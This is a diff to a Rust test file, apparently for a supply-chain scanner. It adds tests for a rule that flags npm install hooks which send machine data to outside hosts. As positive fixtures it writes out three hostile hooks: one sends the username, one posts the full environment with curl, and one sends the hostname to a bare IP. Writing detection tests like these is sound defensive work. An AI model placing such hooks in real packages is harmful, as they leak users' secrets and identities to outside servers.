@@ -7,6 +7,7 @@ use crate::scan::bundle::EntryKind;
 
 const OPAQUE: &str = "supply_chain.opaque-code-run";
 const OVERRIDE: &str = "prompt_injection.ignore-previous";
+const BEACON: &str = "supply_chain.install-hook-beacon";
 
 /// A bundle of text files plus binary entries (path, magic): what the host passes for bytecode,
 /// native programs and images.
@@ -182,4 +183,45 @@ fn round_37m_override_variant_does_not_fire() {
         .filter(|f| f.rule_id == OVERRIDE)
         .count();
     assert_eq!(n, 1);
+}
+
+/// An npm install hook whose request carries the machine's or user's data to an outside host.
+#[test]
+fn round_37m_install_hook_beacon_fires() {
+    for hook in [
+        r#""postinstall": "node -e \"require('https').get('https://stats.pkgmetrics.net/i?u='+require('os').userInfo().username)\"","#,
+        r#""preinstall": "curl -s -d \"$(env)\" https://collect.buildstats.io/in","#,
+        r#""install": "wget -q -O- https://203.0.113.40/p?h=$(hostname)","#,
+    ] {
+        let pkg = format!(
+            "{{\n  \"name\": \"left-pad-pro\",\n  \"scripts\": {{\n    {hook}\n    \"test\": \"node test.js\"\n  }}\n}}\n"
+        );
+        assert_eq!(
+            worst(&[("package.json", &pkg)], BEACON),
+            Some(Critical),
+            "{hook}: {:?}",
+            crate::scan::judge::hosts_in(hook)
+                .iter()
+                .map(|h| (h.host.clone(), h.class))
+                .collect::<Vec<_>>()
+        );
+    }
+}
+
+/// A hook that downloads its own binary from a release host, runs a local script, reports to this
+/// machine, or names no machine data; a request outside a hook: not this rule.
+#[test]
+fn round_37m_install_hook_beacon_does_not_fire() {
+    for hook in [
+        r#""postinstall": "node scripts/fetch-binary.js","#,
+        r#""postinstall": "curl -fsSL https://github.com/acme/tool/releases/download/v1.2.0/tool-linux -o bin/tool","#,
+        r#""prepare": "curl -s http://localhost:4873/-/ping?u=$USER","#,
+        r#""postinstall": "curl -s https://stats.pkgmetrics.net/ping","#,
+        r#""report": "curl -s https://stats.pkgmetrics.net/i?h=$(hostname)","#,
+    ] {
+        let pkg = format!(
+            "{{\n  \"name\": \"left-pad-pro\",\n  \"scripts\": {{\n    {hook}\n    \"test\": \"node test.js\"\n  }}\n}}\n"
+        );
+        at(&[("package.json", &pkg)], BEACON, None);
+    }
 }
